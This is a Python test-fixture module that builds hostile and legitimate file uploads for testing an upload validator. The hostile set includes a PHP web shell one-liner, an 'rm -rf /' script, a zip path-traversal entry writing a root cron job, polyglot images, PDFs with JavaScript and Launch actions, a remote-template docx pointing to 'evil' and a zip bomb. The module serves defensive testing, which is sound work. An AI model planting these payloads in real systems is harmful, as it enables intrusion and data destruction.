"""A corpus of hostile and legitimate uploads, built in memory (no binary fixtures in git)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/>{extra}</Types>'
)


def _image(fmt: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **save: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color=(200, 30, 30) if mode in {"RGB", "RGBA"} else 128).save(out, fmt, **save)
    return out.getvalue()


def _jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (80, 60), (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "CameraMaker"
    exif[0x8825] = {1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 17.0)}  # GPS: Beijing
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def _animated_gif() -> bytes:
    frames = [Image.new("P", (32, 32), i * 40) for i in range(4)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return out.getvalue()


def _pdf(pages: int = 1, js: str | None = None, open_action_js: bool = False) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if js:  # a document-level script in the catalogue's /Names tree
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(js)}
        )
        tree = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(action)])}
        )
        names = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
        writer._root_object[NameObject("/Names")] = writer._add_object(names)
    if open_action_js:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _raw_pdf(body: bytes) -> bytes:
    return b"%PDF-1.4\n1 0 obj\n" + body + b"\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def _zip(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx(extra: dict[str, bytes] | None = None, types_extra: str = "") -> bytes:
    entries = {
        "[Content_Types].xml": CONTENT_TYPES.format(extra=types_extra).encode(),
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
        "word/document.xml": "<w:document><w:body><w:p><w:r><w:t>现场检查笔录</w:t></w:r></w:p></w:body></w:document>".encode(),
    }
    entries.update(extra or {})
    return _zip(entries)


def _xlsx(rows: int = 5) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    for i in range(rows):
        sheet.append([f"扣押物品{i}", i, 12.5 * i])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _png_header_only(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )


def _bomb_docx() -> bytes:
    return _docx({"word/media/padding.xml": b"\x00" * (300 * 1024 * 1024)})


PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200
HTML = b"<html><body><script>fetch('/api/v1/cases').then(r=>r.text()).then(alert)</script></body></html>"
JPEG = _image("JPEG")
PNG = _image("PNG")

HOSTILE: dict[str, Callable[[], bytes]] = {
    "jpeg header + html": lambda: b"\xff\xd8\xff\xe0" + HTML,
    "valid jpeg + appended html": lambda: JPEG + HTML,
    "valid jpeg + appended PE": lambda: JPEG + PE,
    "jpeg header + PE": lambda: b"\xff\xd8\xff\xe0" + PE,
    "gif/js polyglot": lambda: b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//;",
    "valid png + appended zip": lambda: PNG + _zip({"evil.js": b"alert(1)"}),
    "valid gif + appended script": lambda: _image("GIF", mode="P") + b"<script>alert(1)</script>",
    "webp with trailing data": lambda: _image("WEBP") + b"<?php system($_GET['c']); ?>",
    "40000x40000 png": lambda: _png_header_only(40000, 40000),
    "png 100000x1 header": lambda: _png_header_only(100000, 1000),
    "truncated png": lambda: PNG[: len(PNG) // 2],
    "truncated jpeg": lambda: JPEG[: len(JPEG) // 3] + b"\xff\xd9",
    "pdf with /OpenAction /JavaScript": lambda: _pdf(open_action_js=True),
    "pdf with document-level js (compressed names tree)": lambda: _pdf(js="app.alert('x');"),
    "pdf with /JS raw": lambda: _raw_pdf(b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
    "pdf with hex-escaped /J#61vaScript": lambda: _raw_pdf(
        b"<< /Type /Catalog /OpenAction << /S /J#61vaScript /JS (x) >> >>"
    ),
    "pdf with /Launch": lambda: _raw_pdf(b"<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>"),
    "pdf with /EmbeddedFiles": lambda: _raw_pdf(b"<< /Type /Catalog /Names << /EmbeddedFiles << /Names [] >> >> >>"),
    "pdf with /RichMedia": lambda: _raw_pdf(b"<< /Type /Catalog /RichMedia << >> >>"),
    "pdf with /XFA": lambda: _raw_pdf(b"<< /Type /Catalog /AcroForm << /XFA [] >> >>"),
    "pdf with /SubmitForm": lambda: _raw_pdf(b"<< /Type /Catalog /OpenAction << /S /SubmitForm /F (http://x) >> >>"),
    "unparseable pdf": lambda: b"%PDF-1.7\n" + b"\x00garbage" * 100,
    "docx zip bomb": _bomb_docx,
    "docm with vbaProject.bin": lambda: _docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
    "xlsm content type": lambda: _docx(
        types_extra='<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
    ),
    "docx with embedded ole .bin": lambda: _docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "docx with activeX": lambda: _docx({"word/activeX/activeX1.xml": b"<ax/>"}),
    "docx with external template": lambda: _docx(
        {
            "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
        }
    ),
    "docx with path traversal": lambda: _docx({"../../etc/cron.d/evil": b"* * * * * root sh"}),
    "zip with too many entries": lambda: _docx({f"word/p{i}.xml": b"x" for i in range(2500)}),
    "plain zip archive": lambda: _zip({"evidence.txt": b"x", "run.exe": PE}),
    "rar archive": lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100,
    "7z archive": lambda: b"7z\xbc\xaf\x27\x1c" + b"\x00" * 100,
    "windows executable": lambda: PE,
    "elf executable": lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
    "shell script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "html page": lambda: HTML,
    "svg with script": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "php file": lambda: b"<?php system($_GET['c']); ?>",
    "bmp image (not allowed)": lambda: _image("BMP"),
    "tiff image (not allowed)": lambda: _image("TIFF"),
    "ico image (not allowed)": lambda: _image("ICO", size=(32, 32)),
    "ole2 .doc (macro-capable)": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500,
    "eicar test string": lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    "empty file": lambda: b"",
}

LEGITIMATE: dict[str, Callable[[], bytes]] = {
    "png photo": lambda: _image("PNG", (640, 480)),
    "png with alpha": lambda: _image("PNG", (100, 100), mode="RGBA"),
    "png palette": lambda: _image("PNG", (100, 100), mode="P"),
    "png grayscale 16-bit": lambda: _image("PNG", (50, 50), mode="I;16"),
    "jpeg photo": lambda: _image("JPEG", (1024, 768), quality=85),
    "jpeg progressive": lambda: _image("JPEG", (300, 200), progressive=True),
    "jpeg grayscale": lambda: _image("JPEG", (300, 200), mode="L"),
    "jpeg cmyk": lambda: _image("JPEG", (120, 80), mode="CMYK"),
    "jpeg with exif gps": _jpeg_with_gps,
    "gif still": lambda: _image("GIF", (50, 50), mode="P"),
    "gif animated": _animated_gif,
    "webp": lambda: _image("WEBP", (200, 150)),
    "pdf one page": lambda: _pdf(),
    "pdf ten pages": lambda: _pdf(pages=10),
    "docx inspection record": lambda: _docx(),
    "docx with picture": lambda: _docx({"word/media/image1.png": PNG}),
    "xlsx seized-goods list": lambda: _xlsx(),
    "xlsx 2000 rows": lambda: _xlsx(2000),
    "large png 4000x3000": lambda: _image("PNG", (4000, 3000)),
    "jpeg 6000x4000 camera size": lambda: _image("JPEG", (6000, 4000), quality=60),
}
